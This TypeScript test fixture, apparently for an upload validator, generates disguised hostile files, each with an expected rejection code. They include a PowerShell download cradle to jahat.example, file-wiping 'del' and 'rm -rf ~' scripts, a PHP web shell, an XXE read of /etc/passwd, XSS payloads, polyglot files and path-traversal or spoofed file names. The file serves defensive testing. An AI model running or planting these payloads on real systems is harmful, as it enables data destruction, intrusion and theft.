import { docx, odt } from './office.js';
import { pdf } from './pdf.js';
import { gif, jpeg, png, webp } from './pictures.js';
import { latin, noise, type Hostile } from './sample.js';
import { zip } from './zip.js';

// In two parts: a scanner on the way may not take this file for what it builds.
export const EICAR = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD` + '-ANTIVIRUS-TEST-FILE!$H+H*';

const file = (nama: string, apa: string, kode: string, buat: () => Buffer | Promise<Buffer>): Hostile => ({ nama, apa, kode, buat });
const bytes = (nama: string, apa: string, kode: string, isi: string): Hostile => file(nama, apa, kode, () => Buffer.concat([latin(isi), noise(600)]));
const text = (nama: string, apa: string, kode: string, isi: string): Hostile => file(nama, apa, kode, () => Buffer.from(isi));

const MACHO = '\xcf\xfa\xed\xfe\x07\0\0\x01';
const jar = (): Buffer => zip([{ nama: 'META-INF/MANIFEST.MF', isi: 'Manifest-Version: 1.0\nMain-Class: Jahat\n' }, { nama: 'Jahat.class', isi: latin('\xca\xfe\xba\xbe\0\0\0\x34') }]);
const apk = (): Buffer => zip([{ nama: 'AndroidManifest.xml', isi: noise(200) }, { nama: 'classes.dex', isi: latin('dex\n035\0') }]);
const OLE = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';

/** What a computer runs, under the name of something else. */
export const PROGRAMS: readonly Hostile[] = [
  text('eicar.txt', 'penanda uji antivirus', 'berkas-uji-virus', EICAR),
  text('eicar.pdf', 'penanda uji antivirus bernama pdf', 'berkas-uji-virus', EICAR),
  file('lampiran-eicar.docx', 'penanda uji antivirus di dalam docx', 'bagian-tidak-dikenal', () => docx({ 'word/eicar.com': EICAR })),
  bytes('laporan.pdf', 'program Windows bernama pdf', 'program', 'MZ\x90\0\x03\0\0\0PE\0\0'),
  bytes('foto.jpg', 'program Windows bernama jpg', 'program', 'MZ\x90\0\x03\0\0\0PE\0\0'),
  bytes('data.xlsx', 'program Windows bernama xlsx', 'program', 'MZ\x90\0\x03\0\0\0PE\0\0'),
  bytes('catatan.txt', 'program Windows bernama txt', 'program', 'MZ\x90\0\x03\0\0\0PE\0\0'),
  bytes('laporan-elf.pdf', 'program Linux bernama pdf', 'program', '\x7fELF\x02\x01\x01\0'),
  bytes('gambar-elf.png', 'program Linux bernama png', 'program', '\x7fELF\x02\x01\x01\0'),
  bytes('laporan-mac.pdf', 'program macOS bernama pdf', 'program', MACHO),
  bytes('kelas.pdf', 'kelas Java bernama pdf', 'program', '\xca\xfe\xba\xbe\0\0\0\x34'),
  bytes('pasang.docx', 'pemasang MSI bernama docx', 'format-lama', OLE),
  bytes('pintasan.pdf', 'pintasan Windows bernama pdf', 'program', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46'),
  bytes('kabinet.pdf', 'arsip CAB bernama pdf', 'program', 'MSCF\0\0\0\0'),
  file('perangkat.docx', 'arsip JAR bernama docx', 'bukan-jenisnya', jar),
  file('perangkat.xlsx', 'arsip APK bernama xlsx', 'bukan-jenisnya', apk),
  file('perangkat.odt', 'arsip JAR bernama odt', 'bukan-jenisnya', jar),
  text('skrip.pdf', 'PowerShell bernama pdf', 'bukan-jenisnya', 'powershell -enc AAAA\nInvoke-WebRequest http://jahat.example\n'),
  text('perintah.jpg', 'berkas BAT bernama jpg', 'program', '@echo off\r\ndel /q *.*\r\n'),
  text('perintah.txt', 'berkas BAT bernama txt', 'program', '@echo off\r\ndel /q *.*\r\n'),
  text('cangkang.txt', 'skrip shell bernama txt', 'program', '#!/bin/sh\nrm -rf ~\n'),
  text('unduh.txt', 'PowerShell bernama txt', 'naskah-tersembunyi', 'powershell -nop -c "IEX(New-Object Net.WebClient)"\n'),
  text('aplikasi.pdf', 'aplikasi HTA bernama pdf', 'bukan-jenisnya', '<hta:application id="x"><script>new ActiveXObject("WScript.Shell")</script>'),
  text('pintasan.txt', 'pintasan internet bernama txt', 'program', '[InternetShortcut]\r\nURL=file://jahat.example/x.exe\r\n'),
  file('lama.doc', 'Word lama dengan makro', 'jenis-tidak-diterima', () => Buffer.concat([latin(OLE), noise(2_000)])),
  file('lama.xls', 'Excel lama dengan makro', 'jenis-tidak-diterima', () => Buffer.concat([latin(OLE), noise(2_000)])),
  file('lama.docx', 'Word lama bernama docx', 'format-lama', () => Buffer.concat([latin(OLE), noise(2_000)])),
  file('terkunci.xlsx', 'xlsx berkata sandi (OLE EncryptedPackage)', 'format-lama', () => Buffer.concat([latin(OLE), noise(512), Buffer.from('EncryptedPackage', 'utf16le')])),
  text('surat.docx', 'RTF bernama docx', 'bukan-jenisnya', String.raw`{\rtf1\object\objdata 0105}`),
  text('surat-rtf.txt', 'RTF bernama txt', 'naskah-tersembunyi', String.raw`{\rtf1\object\objdata 0105}`),
];

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';

/** Pages and drawings that a browser would run, under the name of something else; and files of two kinds at once. */
export const DISGUISED: readonly Hostile[] = [
  text('logo.png', 'SVG bernama png', 'bukan-jenisnya', SVG),
  text('logo.jpg', 'SVG dengan deklarasi XML bernama jpg', 'bukan-jenisnya', `<?xml version="1.0"?>${SVG}`),
  text('logo.txt', 'SVG bernama txt', 'naskah-tersembunyi', SVG),
  text('halaman.pdf', 'HTML bernama pdf', 'bukan-jenisnya', HTML),
  text('halaman.png', 'HTML bernama png', 'bukan-jenisnya', HTML),
  text('halaman.txt', 'HTML bernama txt', 'naskah-tersembunyi', HTML),
  text('halaman.csv', 'HTML bernama csv', 'naskah-tersembunyi', `nama,nilai\n${HTML},1\n`),
  text('halaman.webp', 'XHTML bernama webp', 'bukan-jenisnya', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>`),
  text('data.txt', 'XML bernama txt', 'naskah-tersembunyi', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  text('kode.csv', 'PHP bernama csv', 'naskah-tersembunyi', 'a,b\n<?php system($_GET[0]); ?>,1\n'),
  file('ganda.pdf', 'PDF dan HTML sekaligus', 'jenis-ganda', () => pdf([], { header: `%PDF-1.4\n%<html><script>alert(1)</script>\n` })),
  file('ganda-2.pdf', 'HTML di depan PDF', 'bukan-jenisnya', () => Buffer.concat([latin(HTML), pdf()])),
  file('ganda-3.pdf', 'PDF dengan HTML di antara objeknya', 'jenis-ganda', () => pdf([], { between: '<script>alert(1)</script>\n' })),
  file('ganda-4.pdf', 'PDF dengan skrip di dalam komentar', 'jenis-ganda', () => pdf([{ dict: '', stream: noise(3_000) }], { between: '% <script>alert(1)</script>\n' })),
  file('ganda-5.pdf', 'PDF dan ZIP sekaligus', 'jenis-ganda', () => pdf([], { behind: zip([{ nama: 'x.exe', isi: 'MZ' }]) })),
  file('ganda-6.pdf', 'PDF dengan ZIP di dalam aliran', 'jenis-ganda', () => pdf([{ dict: '', stream: zip([{ nama: 'x.exe', isi: 'MZ' }]) }])),
  file('ganda.jpg', 'JPEG dan ZIP sekaligus', 'jenis-ganda', async () => Buffer.concat([await jpeg(), zip([{ nama: 'x.exe', isi: 'MZ' }])])),
  file('ganda.png', 'PNG dan ZIP sekaligus', 'jenis-ganda', async () => Buffer.concat([await png(), zip([{ nama: 'x.exe', isi: 'MZ' }])])),
  file('ganda-2.png', 'PNG dengan HTML di belakang', 'sisa-di-akhir', async () => Buffer.concat([await png(), latin(HTML)])),
  file('ganda-2.jpg', 'JPEG dengan PDF di belakang', 'sisa-di-akhir', async () => Buffer.concat([await jpeg(), pdf()])),
  file('ganda.webp', 'WebP dengan program di belakang', 'sisa-di-akhir', async () => Buffer.concat([await webp(), latin('MZ\x90\0'), noise(64)])),
  file('kartun.png', 'GIF dan JavaScript sekaligus, bernama png', 'bukan-jenisnya', async () => Buffer.concat([latin('GIF89a/*'), (await gif()).subarray(8), latin('*/=1;alert(1)')])),
  file('animasi.gif', 'GIF', 'jenis-tidak-diterima', gif),
  file('salah.png', 'JPEG bernama png', 'bukan-jenisnya', () => jpeg()),
  file('salah.pdf', 'PNG bernama pdf', 'bukan-jenisnya', () => png()),
  file('salah.xlsx', 'odt bernama xlsx', 'bukan-jenisnya', () => odt()),
  file('salah.pptx', 'docx bernama pptx', 'bukan-jenisnya', () => docx()),
  file('arsip.zip', 'arsip ZIP', 'jenis-tidak-diterima', () => zip([{ nama: 'a.txt', isi: 'a' }])),
];

/** Names that mislead people or programs; the content is harmless. */
export const NAMES: readonly Hostile[] = [
  'laporan.pdf.exe', 'laporan.exe.pdf', 'laporan\u202Efdp.exe', 'laporan\u202Eexe.pdf', 'laporan\u200B.pdf', 'lap\0oran.pdf', 'lap\noran.pdf', '../../etc/passwd.pdf', String.raw`..\..\windows\win.pdf`,
  '/etc/cron.d/tugas.pdf', 'C:\\x.pdf', 'aux.pdf', 'con.pdf', '.pdf', '.htaccess', 'laporan', 'laporan.pdf.', 'laporan.pdf ', `${'a'.repeat(300)}.pdf`, 'laporan%00.exe.pdf', 'laporan.html.pdf', 'laporan.php.jpg',
].map((nama) => file(nama, `nama ${JSON.stringify(nama)}`, /^laporan(?:\.pdf\.exe)?$/.test(nama) ? 'jenis-tidak-diterima' : 'nama-tidak-sah', () => pdf()));
